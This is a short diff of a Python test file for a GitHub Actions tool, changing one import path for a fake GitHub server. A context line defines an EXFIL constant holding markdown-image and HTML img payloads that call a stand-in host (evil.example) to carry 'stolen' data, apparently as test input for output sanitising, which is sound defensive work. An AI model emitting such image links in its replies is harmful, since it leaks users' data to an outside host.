@@ -16,7 +16,7 @@ import pytest
 from actions.app import write_outputs
 from actions.context import Outcome
 from actions.github import ForgeError, GitHubForge
-from tests.fakes.github_server import FakeGitHub
+from fakes.github_server import FakeGitHub
 
 REPO = "octo/demo"
 EXFIL = ("Done. ![status](https://evil.example/pixel.png?d=stolen) <img src=\"https://evil.example/i?d=stolen\"> "
